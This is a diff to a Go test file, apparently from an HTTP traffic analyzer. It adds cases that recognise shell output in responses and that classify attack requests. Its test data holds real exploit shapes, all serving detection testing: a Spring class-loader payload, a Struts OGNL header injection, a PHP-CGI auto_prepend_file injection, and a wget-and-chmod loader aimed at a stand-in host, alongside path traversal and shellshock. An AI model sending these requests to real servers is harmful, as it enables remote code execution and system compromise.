@@ -35,6 +35,25 @@ func brief(records []*HTTP) []string {
 	return out
 }
 
+// A page that quotes a shell answers no command, and the look ends with the first lines.
+func TestHTTPAnswersOfCommands(t *testing.T) {
+	for body, want := range map[string]string{
+		"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n":                "id",
+		"<pre>uid=0(root) gid=0(root) groups=0(root)</pre>":                      "id",
+		"\r\n Volume in drive C has no label.\r\n Volume Serial Number is 1\r\n": "dir",
+		"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/bin/sh\n":             "accounts",
+		"nt authority\\system\r\n":                                               "system",
+		"uid=33\n) gid=33\n) groups=33\n":                                        "",
+		"the file root:x:0:0 is not it":                                          "",
+		strings.Repeat("a", httpAnswerLook) + "\nroot:x:0:0:root\n":              "",
+	} {
+		got := hearHTTP("GET /a HTTP/1.1\r\n\r\n", fmt.Sprintf("<HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
+		if len(got) != 1 || got[0].Shell != want {
+			t.Errorf("%.30q: %v, want %q", body, got, want)
+		}
+	}
+}
+
 func TestHTTPFraming(t *testing.T) {
 	for name, c := range map[string]struct {
 		talk []string
@@ -221,6 +240,10 @@ func TestHTTPAttackShapes(t *testing.T) {
 		"traversal, twice":     {"GET /%252e%252e/%252e%252e/etc/passwd HTTP/1.1\r\n\r\n", []string{"traversal", "cmd"}},
 		"shellshock":           {"GET / HTTP/1.1\r\nUser-Agent: () { :;}; x\r\n\r\n", []string{"cmd"}},
 		"script in a form":     {"POST / HTTP/1.1\r\nContent-Length: 12\r\n\r\na=%3Cscript+", []string{"xss"}},
+		"class loader":         {"POST /x HTTP/1.1\r\nContent-Length: 47\r\n\r\nclass.module.classLoader.resources.context=a&b=", []string{"code"}},
+		"ognl":                 {"GET /x HTTP/1.1\r\nContent-Type: %{(#_memberAccess=x)}\r\n\r\n", []string{"code"}},
+		"php of the settings":  {"POST /?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1\r\n\r\n", []string{"code"}},
+		"loader":               {"GET /shell?cd+/tmp;wget+http://x/a;chmod+777+a HTTP/1.1\r\n\r\n", []string{"cmd"}},
 		"nothing":              {"GET /select/union?sleep=1 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 WindowsPowerShell/5.1\r\n\r\n", nil},
 		"what a cookie may be": {"GET / HTTP/1.1\r\nCookie: a=../b\r\n\r\n", nil},
 	} {
